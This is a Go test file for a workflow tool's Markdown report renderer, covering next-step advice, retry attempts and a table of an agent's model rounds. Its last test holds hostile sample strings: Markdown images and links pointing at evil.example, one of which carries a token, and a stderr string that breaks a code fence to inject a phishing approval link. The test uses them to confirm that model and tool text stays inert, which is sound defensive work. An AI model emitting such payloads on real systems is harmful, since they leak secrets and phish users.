package report

import (
	"regexp"
	"strings"
	"testing"

	"github.com/capflow/capflow/wire"
)

// A failed run's report says what to do next near its top, before the
// graph and the steps.
func TestMarkdownSaysWhatNext(t *testing.T) {
	r := wire.Result{Plan: "p", Status: wire.StatusFailed, Steps: []wire.StepResult{{ID: "build", Status: wire.StepFailed}},
		Next: []wire.Next{{Step: "build", Code: "TOOL_FAILURE", Severity: "HIGH", Command: "capflow rerun r1 --from build", Advice: "read the stderr tail", Stderr: []string{"x", "boom"}}}}
	md := Markdown(Document{Result: r})
	want := "\n## What next\n\n- **build** `TOOL_FAILURE` HIGH: `capflow rerun r1 --from build`; read the stderr tail\n  ```\n  x\n  boom\n  ```\n"
	i := strings.Index(md, want)
	if i < 0 || i > strings.Index(md, "## Steps") {
		t.Fatalf("want before the steps:\n%s\n---\n%s", want, md)
	}
}

// A step that took more than one attempt is told attempt by attempt, from
// its folder's records (new-user trial of issue 54: the report kept only
// the last attempt's message).
func TestMarkdownTellsEachAttempt(t *testing.T) {
	s := wire.StepResult{ID: "slow", Status: wire.StepFailed, Attempts: 2, StartedAt: "t0", EndedAt: "t3", Reason: "slow timed out: attempt 2 of 2 ran for 3s, its timeout",
		Envelope: &wire.Envelope{Error: &wire.ErrorInfo{Code: "RETRY_EXHAUSTED", Cause: "TASK_TIMEOUT"}}}
	tr := Transitions(s, []Attempt{{N: 1, Code: "TASK_TIMEOUT", Message: "ran for 3s of its 3s timeout"}})
	md := Markdown(Document{Result: wire.Result{Plan: "p", Status: wire.StatusFailed, Steps: []wire.StepResult{s, {ID: "ok", Status: wire.StepSucceeded, Attempts: 1}}},
		Transitions: map[string][]Transition{"slow": tr}})
	want := "\n## Attempts\n\nSteps that took more than one attempt, each attempt's end:\n\n**slow** (2 attempts)\n\n" +
		"- 0001-01-01T00:00:00.000Z: attempt 1 failed (TASK_TIMEOUT): ran for 3s of its 3s timeout\n" +
		"- t3: attempt 2 failed (TASK_TIMEOUT, then RETRY_EXHAUSTED): slow timed out: attempt 2 of 2 ran for 3s, its timeout\n"
	if !strings.Contains(md, want) {
		t.Fatalf("want\n%s\n---\n%s", want, md)
	}
	if strings.Contains(md, "**ok**") {
		t.Fatal("a step of one attempt is told")
	}
	// An attempt its worker took down with it left no record: said so.
	lost := wire.StepResult{ID: "lost", Status: wire.StepSucceeded, Attempts: 2, EndedAt: "t9"}
	md = Markdown(Document{Result: wire.Result{Plan: "p", Status: wire.StatusPassed, Steps: []wire.StepResult{lost}}})
	if !strings.Contains(md, "**lost** (2 attempts)\n\n- attempt 1 ended without a record (its worker stopped, or the server timed it out)\n- t9: attempt 2 succeeded\n") {
		t.Fatalf("a lost attempt:\n%s", md)
	}
}

// An agent step's rounds are in the report: what each proposed, what was
// refused, where its calls ran, what it cost.
func TestMarkdownListsAgentRounds(t *testing.T) {
	d := strings.Repeat("ab", 32)
	a := &wire.AgentRun{Spent: wire.AgentSpent{LLMCalls: 3, Tokens: 3300, USD: 0.0123}, Rounds: []wire.AgentRound{
		{Round: 1, Model: "m", InputTokens: 1000, OutputTokens: 100, Calls: []string{"call-1 http.request"}, Refused: []string{"c1 : \"http__request\" is not a function of this step"}, Request: d, Response: d},
		{Round: 2, Model: "m", Calls: []string{"call-1 file.checksum file-checksum@1.0.0 {\"path\":\"a\"}"}, SubRun: "r.triage.round-2", Approval: d, Request: d, Response: d, Reused: true},
		{Round: 3, Model: "m", Finished: true, Request: d, Response: d}}}
	md := Markdown(Document{Result: wire.Result{Plan: "p", Status: wire.StatusPassed, Steps: []wire.StepResult{{ID: "triage", Status: wire.StepSucceeded, Agent: a}}}})
	for _, want := range []string{"## Agent rounds\n\n### triage\n\n3 model call(s), 3300 tokens, $0.0123\n",
		"| 1 | m | 1000/100 | $0.0000 | call-1 http.request | refused, nothing ran: c1 : \"http__request\" is not a function of this step — request sha256:abababababab",
		"| 2 | m | 0/0 | $0.0000 | call-1 file.checksum file-checksum@1.0.0 {\"path\":\"a\"} | ran as `r.triage.round-2` — approval of sha256:abababababababab — answer reused",
		"| 3 | m | 0/0 | $0.0000 |  | finished"} {
		if !strings.Contains(md, want) {
			t.Fatalf("want\n%s\n---\n%s", want, md)
		}
	}
}

// A model's (or a tool's) text in a report stays text: no image or link
// forms in it (the console renders reports; an image would fetch its URL).
func TestMarkdownKeepsTextInert(t *testing.T) {
	a := &wire.AgentRun{Rounds: []wire.AgentRound{{Round: 1, Calls: []string{`call-1 file.checksum {"path":"![s](http://evil.example/px?d=tok)"}`},
		Refused: []string{"c1 : <http://evil.example/a> [x](http://evil.example/b)"}}}}
	md := Markdown(Document{Result: wire.Result{Plan: "p", Status: wire.StatusPassed, Steps: []wire.StepResult{{ID: "triage", Status: wire.StepFailed, Agent: a,
		Reason: "![r](http://evil.example/r)", Envelope: &wire.Envelope{Feedback: []wire.Feedback{{Message: "see ![f](http://evil.example/f)"}}}}}}})
	// A tool's stderr or feedback detail cannot close its code block.
	evil := "error\n```\n[Approve here](http://evil.example/phish)"
	fence := Markdown(Document{Result: wire.Result{Plan: "p", Status: wire.StatusFailed, Steps: []wire.StepResult{{ID: "s", Status: wire.StepFailed,
		Envelope: &wire.Envelope{Feedback: []wire.Feedback{{Level: "error", Message: "m", Detail: evil}}}}}, Next: []wire.Next{{Step: "s", Stderr: strings.Split(evil, "\n")}}}})
	if strings.Count(fence, "\n  ````\n") != 4 {
		t.Fatalf("the fences:\n%s", fence)
	}
	live := regexp.MustCompile(`(^|[^\\])(!?\[[a-z]\]\(|<http)`)
	if m := live.FindString(md); m != "" || strings.Count(md, `\[`) < 4 {
		t.Fatalf("%q stays live in:\n%s", m, md)
	}
}
